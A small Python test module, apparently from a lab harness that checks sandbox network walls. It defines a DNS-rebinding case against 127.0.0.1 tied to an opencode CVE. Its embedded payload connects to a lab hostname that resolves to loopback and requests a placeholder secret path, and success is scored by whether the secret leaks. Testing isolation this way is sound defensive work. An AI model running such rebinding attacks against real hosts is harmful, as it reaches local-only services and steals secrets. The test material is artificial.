"""reaches the host's loopback by a granted name that leads there"""

from evidence import secret_left as succeeded

SHAPE = "DNS rebinding to 127.0.0.1: opencode CVE-2026-22812"
PROMISE = "P25"
LAB = True
WALLS = "network-addresses"
OPTIONS = {"hosts": ["loopback.rwlab.net:7001"]}
PYTHON = """
import socket
with socket.create_connection(("loopback.rwlab.net", 7001), 30) as line:
    line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: loopback.rwlab.net\\r\\n\\r\\n")
    line.recv(999)
"""
